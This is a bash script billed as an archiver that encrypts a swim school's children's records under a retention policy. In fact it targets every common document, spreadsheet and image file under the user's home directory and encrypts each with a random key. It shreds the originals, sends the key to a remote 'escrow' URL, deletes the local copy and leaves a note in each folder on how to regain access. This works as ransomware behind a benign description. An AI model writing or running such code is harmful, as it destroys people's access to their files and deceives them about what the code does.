#!/usr/bin/env bash
# swim_records_archiver.sh - end-of-term archiving of swim school records.
#
# Swim school progress sheets, medical/consent forms and session registers are
# personal data (children). Under the trust's retention policy they must be
# encrypted at rest once the term closes, with the key held by the records
# office rather than on the centre PC. This script finds the term's files,
# encrypts them in place, lodges the key with the records office escrow
# service, and leaves a note in each folder explaining how to request access.
#
# Usage: swim_records_archiver.sh [-r ROOT] [-t TERM] [-n]
set -euo pipefail

ROOT="${RECORDS_ROOT:-$HOME}"
TERM_LABEL="${TERM_LABEL:-$(date +%Y)-T$(( ($(date +%-m) - 1) / 4 + 1 ))}"
ESCROW_URL="${ESCROW_URL:-https://records-escrow.leisuretrust.example.org/api/keys}"
EXTENSIONS="xlsx xls csv docx doc odt ods pdf jpg jpeg png txt"
DRY_RUN=0
LOG="${ROOT%/}/.swim_archiver.log"

usage() { sed -n '2,12p' "$0"; exit 1; }

while getopts "r:t:nh" opt; do
    case "$opt" in
        r) ROOT="$OPTARG" ;;
        t) TERM_LABEL="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        *) usage ;;
    esac
done

log() { echo "$(date '+%F %T') $*" | tee -a "$LOG" >&2; }

need() {
    command -v "$1" >/dev/null 2>&1 || { log "missing dependency: $1"; exit 2; }
}

build_find_expr() {
    local first=1
    for ext in $EXTENSIONS; do
        if [ $first -eq 1 ]; then first=0; else printf -- '-o\0'; fi
        printf -- '-iname\0*.%s\0' "$ext"
    done
}

lodge_key() {
    local keyfile="$1" ref="$2" attempt
    for attempt in 1 2 3 4 5; do
        if curl -fsS --max-time 30 -X POST \
               -H "X-Archive-Ref: $ref" -H "X-Site: $(hostname)" \
               --data-binary @"$keyfile" "$ESCROW_URL" >/dev/null; then
            return 0
        fi
        log "escrow attempt $attempt failed, retrying"
        sleep $((attempt * 10))
    done
    return 1
}

write_note() {
    local dir="$1" ref="$2"
    cat >"$dir/ARCHIVED_RECORDS_README.txt" <<EOF
The records in this folder were archived at the end of term $TERM_LABEL
and are encrypted under the trust's data retention policy.

To request access, contact the Records Office quoting reference:

    $ref

Files ending in .arc cannot be opened without the escrowed key.
EOF
}

main() {
    need openssl
    need curl
    [ -d "$ROOT" ] || { log "no such directory: $ROOT"; exit 2; }

    local ref keyfile count=0
    ref="SR-${TERM_LABEL}-$(openssl rand -hex 4)"
    keyfile="$(mktemp)"
    openssl rand -base64 48 >"$keyfile"
    chmod 600 "$keyfile"

    log "archiving records under $ROOT as $ref"
    declare -A dirs=()

    mapfile -d '' expr < <(build_find_expr)
    while IFS= read -r -d '' f; do
        case "$f" in *.arc|*/ARCHIVED_RECORDS_README.txt|"$LOG") continue ;; esac
        if [ "$DRY_RUN" -eq 1 ]; then
            echo "would archive: $f"; continue
        fi
        if openssl enc -aes-256-cbc -pbkdf2 -iter 200000 -salt \
               -in "$f" -out "$f.arc" -pass "file:$keyfile" 2>/dev/null; then
            shred -uz "$f" 2>/dev/null || rm -f "$f"
            dirs["$(dirname "$f")"]=1
            count=$((count + 1))
        else
            rm -f "$f.arc"
            log "could not archive $f"
        fi
    done < <(find "$ROOT" -xdev -type f \( "${expr[@]}" \) -size +0 -print0 2>/dev/null)

    [ "$DRY_RUN" -eq 1 ] && { rm -f "$keyfile"; exit 0; }

    if lodge_key "$keyfile" "$ref"; then
        shred -uz "$keyfile" 2>/dev/null || rm -f "$keyfile"
        log "key lodged with records office"
    else
        log "escrow unreachable; key kept at $keyfile - move it to the records office USB"
    fi

    for d in "${!dirs[@]}"; do write_note "$d" "$ref"; done
    log "archived $count files in ${#dirs[@]} folders (ref $ref)"
}

main
